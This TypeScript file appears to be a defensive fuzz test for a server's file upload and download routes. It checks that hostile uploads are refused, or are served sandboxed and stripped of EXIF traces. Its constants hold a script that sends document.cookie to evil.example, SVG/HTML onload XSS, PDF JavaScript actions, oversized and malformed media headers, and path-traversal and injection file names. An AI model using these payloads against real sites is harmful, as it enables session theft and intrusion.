import { fileRoutes } from '@appeal/contract/files/files.routes.ts'
import {
  craftedPng,
  jpeg,
  nestedBoxes,
  pdf,
  pdfStream,
  phonePhoto,
  png,
  video,
} from '../../apps/server/src/features/files/files.fixtures.ts'
import { docx } from '../../apps/server/src/testing/archives.ts'
import { HOSTILE_DOCUMENTS } from '../../apps/server/src/testing/hostile.documents.ts'
import { HOSTILE_PDFS } from '../../apps/server/src/testing/hostile.pdfs.ts'
import { makeConsumer } from '../../apps/server/src/testing/people.ts'
import type { TestApp } from '../../apps/server/src/testing/server.ts'
import { type Random, randomOf } from '../random.ts'
import type { Outcome, Trial } from '../trial.ts'

const MB = 1024 * 1024
/** Each hostile kind comes up before those that chance makes. */
const KINDS = 200
const LONGEST_MS = 2_000
const GROWTH_MB = 200

const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>'
const SVG = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`
const HTML = `<!doctype html><body onload=alert(1)>${SCRIPT}`
const ACTION = '3 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>\nendobj'
/** A header of ASF whose object says that it is nothing long (CVE-2026-31808). */
const ENDLESS = Buffer.concat([Buffer.from('3026b2758e66cf11a6d900aa0062ce6c', 'hex'), Buffer.alloc(39)])
/** Who took the picture, where, and with what. */
const TRACES = /OWNER-NAME|PHONE-MAKER|GPSLatitude|TRACK-OWNER|39\.9075/
const ACTIVE = /<script|onload=|evil\.example|\/JavaScript/i
const NAMES = [
  '面单',
  '../../面单',
  '面单.svg',
  '面单.html\u0000',
  '面单\u202egpj',
  'con',
  '"><img src=x>',
  '%2e%2e%2f面单',
]

interface Attempt {
  what: string
  name: string
  bytes: Buffer
  /** Taken under no name at all. */
  never?: true
  /** Its parts are other ones now: what was a trace may lie within what is a sound. */
  torn?: true
}

/** Files of every kind, honest but for what somebody did to them. */
async function maker() {
  const honest: Record<string, Buffer> = {
    jpg: await jpeg(),
    jpeg: await phonePhoto(),
    png: await png(),
    pdf: pdf(['4 0 obj\n<< /Type /Page >>\nendobj']),
    mp4: video(),
    docx: docx(),
    // Deeper than anybody walks; no player reads it, and it is stored as it is.
    'deep.mp4': nestedBoxes(100_000),
  }
  const kinds = Object.keys(honest)
  const wrong: [string, Buffer, string?][] = [
    ['a picture of vectors', Buffer.from(SVG)],
    ['a page', Buffer.from(HTML)],
    ['a header without an end', ENDLESS],
    ['a PDF that acts', pdf([ACTION]), 'pdf'],
    ['a PDF that acts out of a stream', pdf([pdfStream('', Buffer.from(ACTION))]), 'pdf'],
    ['a picture of 65 500 by 65 500 points', craftedPng(65_500, 65_500, Buffer.alloc(64)), 'png'],
    ...HOSTILE_PDFS.map(({ what, make }) => [what, make(), 'pdf'] as [string, Buffer, string]),
    ...HOSTILE_DOCUMENTS.map(
      ({ what, make, xlsx }) => [what, make(), xlsx ? 'xlsx' : 'docx'] as [string, Buffer, string],
    ),
  ]
  const changed = (random: Random, bytes: Buffer): Buffer => {
    const copy = Buffer.from(bytes)
    for (let n = 1 + random.below(8); n > 0; n -= 1) copy[random.below(copy.length)] = random.below(256)
    return copy
  }
  return {
    make(random: Random, n: number): Attempt {
      const nameOf = (kind: string) => `${random.pick(NAMES)}.${kind}`
      if (n < wrong.length * 2 || random.chance(0.1)) {
        const [what, bytes, kind] = wrong[n % wrong.length]!
        return { what, name: nameOf(kind ?? random.pick(kinds)), bytes, never: true }
      }
      const kind = random.pick(kinds)
      const bytes = honest[kind]!
      const ways: [string, () => Buffer][] = [
        ['a page behind it', () => Buffer.concat([bytes, Buffer.from(HTML)])],
        ['a page before it', () => Buffer.concat([Buffer.from(HTML), bytes])],
        ['vectors behind it', () => Buffer.concat([bytes, Buffer.from(SVG)])],
        ['its end cut off', () => bytes.subarray(0, 1 + random.below(bytes.length - 1))],
        ['bytes changed', () => changed(random, bytes)],
        ['itself twice', () => Buffer.concat([bytes, bytes])],
        ['nothing done to it', () => bytes],
      ]
      const [what, act] = random.pick(ways)
      const shown = random.chance(0.8) ? kind : random.pick(kinds)
      const torn = what === 'bytes changed' ? ({ torn: true } as const) : {}
      return { what: `${kind} as ${shown} with ${what}`, name: nameOf(shown), bytes: act(), ...torn }
    },
  }
}

async function upload(app: TestApp, token: string, { name, bytes }: Attempt) {
  const shown = name.replaceAll('"', '%22').replaceAll('\u0000', '')
  const head = `--edge\r\nContent-Disposition: form-data; name="file"; filename="${shown}"\r\nContent-Type: application/octet-stream\r\n\r\n`
  const response = await app.inject({
    method: 'POST',
    url: fileRoutes.uploadDynamicReturnId.url,
    headers: { token, 'content-type': 'multipart/form-data; boundary=edge' },
    payload: Buffer.concat([Buffer.from(head), bytes, Buffer.from('\r\n--edge--\r\n')]),
  })
  return response.json() as { code: number; data: string | { reason?: string } | null }
}

/** What is served of a stored file acts nowhere and tells nothing of who made it; undefined where that holds. */
async function faultOfServed(
  app: TestApp,
  token: string,
  id: string,
  isTorn = false,
): Promise<string | undefined> {
  for (const more of ['', '&inline=1']) {
    const { headers, rawPayload } = await app.inject({
      url: `${fileRoutes.download.url}?id=${id}${more}`,
      headers: { token },
    })
    const type = String(headers['content-type'])
    if (/html|svg|xml(?!formats)|script/.test(type)) return `is served as ${type}`
    if (headers['x-content-type-options'] !== 'nosniff') return 'is served to be guessed'
    if (!String(headers['content-security-policy']).includes('sandbox')) return 'is served without a sandbox'
    const text = rawPayload.toString('latin1')
    if (!isTorn && TRACES.test(text)) return `tells ${TRACES.exec(text)![0]}`
    if (/^image\//.test(type) && ACTIVE.test(text)) return `holds ${ACTIVE.exec(text)![0]}`
  }
  return undefined
}

/** Files that are not what they say, act, or burst: refused in time, or served harmless and without traces. */
export async function run(trial: Trial): Promise<Outcome> {
  const { size, random, miss, kept } = trial
  const app = await trial.open()
  const { id: userId } = await makeConsumer(app)
  const { token } = await app.as(userId)
  const { make } = await maker()
  let [refused, slowest, growth] = [0, 0, 0]
  const first = process.memoryUsage().rss
  const sent = async (one: Attempt) => {
    await app.owner.query('delete from rate_counters')
    return upload(app, token, one)
  }
  const attempt = async (n: number) => {
    const one = make(randomOf(n), n)
    // What the machine does besides is no fault of the file: the time is the processor's, in all threads.
    const cpu = process.cpuUsage()
    const { code, data } = await sent(one)
    const { user, system } = process.cpuUsage(cpu)
    const ms = (user + system) / 1_000
    slowest = Math.max(slowest, ms)
    growth = Math.max(growth, (process.memoryUsage().rss - first) / MB)
    const what = `${one.what} as ${JSON.stringify(one.name)}`
    const reason = typeof data === 'object' ? data?.reason : undefined
    if (ms > LONGEST_MS) miss(`${what} takes ${Math.round(ms)} ms of the processor`, n)
    if (code !== 200 && (!reason || reason.startsWith('server.')))
      miss(`${what} is answered ${code} ${JSON.stringify(data)}`, n)
    if (code !== 200) {
      refused += 1
      return
    }
    if (one.never) miss(`${what} is taken`, n)
    const fault = await faultOfServed(app, token, String(data), one.torn)
    if (fault) miss(`${what} ${fault}`, n)
  }
  for (const n of kept as number[]) await attempt(n)
  // A number alone says which file it is, so that one that failed is made again whatever the seed.
  for (let n = 0; n < size; n += 1) await attempt(n < KINDS ? n : KINDS + random.below(1_000_000_000))
  if (growth > GROWTH_MB) miss(`the process has grown by ${Math.round(growth)} MB`)
  return {
    cases: size + kept.length,
    said: `${refused} of ${size} refused, the others served harmless and without traces; the slowest ${Math.round(slowest)} ms of the processor, ${Math.round(growth)} MB more at most`,
  }
}
